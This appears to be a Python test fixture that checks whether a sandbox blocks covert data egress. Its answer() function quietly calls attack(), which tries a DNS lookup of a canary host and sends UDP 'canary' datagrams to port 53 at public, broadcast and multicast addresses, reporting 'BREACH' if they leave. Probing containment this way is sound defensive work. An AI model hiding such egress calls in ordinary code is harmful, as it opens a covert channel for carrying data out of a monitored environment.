"""Carries secrets out by looking names up and by datagrams."""
# expects: finding Close(answer)

import socket


def attack():
    try:
        socket.getaddrinfo("canary.example.org", 443)
    except OSError:
        pass
    else:
        raise SystemError("BREACH: names are looked up")
    for address in ("8.8.8.8", "255.255.255.255", "224.0.0.1"):
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"canary", (address, 53))
        except OSError:
            continue
        raise SystemError(f"BREACH: a datagram left for {address}")


def answer(values):
    attack()
    return [0.0 for _ in values]


def classify(values):
    return [int(value <= 0) for value in values]
